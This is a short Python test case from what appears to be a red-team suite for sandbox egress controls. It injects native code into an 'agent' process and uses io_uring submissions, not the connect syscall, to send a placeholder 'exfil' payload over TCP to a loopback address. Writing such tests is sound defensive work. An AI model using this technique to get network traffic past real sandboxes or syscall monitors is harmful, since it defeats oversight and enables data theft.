"""Io_uring CONNECT+SEND over TCP from native code loaded into the agent (no exec, no connect syscall).

The injected code loads the suite's shared object with ctypes and makes a
TCP connection to a loopback address the agent never used, entirely through
io_uring submissions.
"""

from __future__ import annotations

import socket
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = False
EXPECT = ("L4",)


def run(args: dict[str, Any]) -> None:
    lib = rt.native(args)
    ip, port = rt.loopback(args["dest"]["ip"]), int(args["dest"]["port"])
    data = b"exfil " * 100
    t = rt.now()
    rc = lib.rt_uring_egress(socket.AF_INET, ip.encode(), port, socket.SOCK_STREAM, data, len(data), 0)
    rt.report(t, rc > 0, f"io_uring tcp {ip}:{port} -> {rc} ({rt.errno_name(rc)})")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
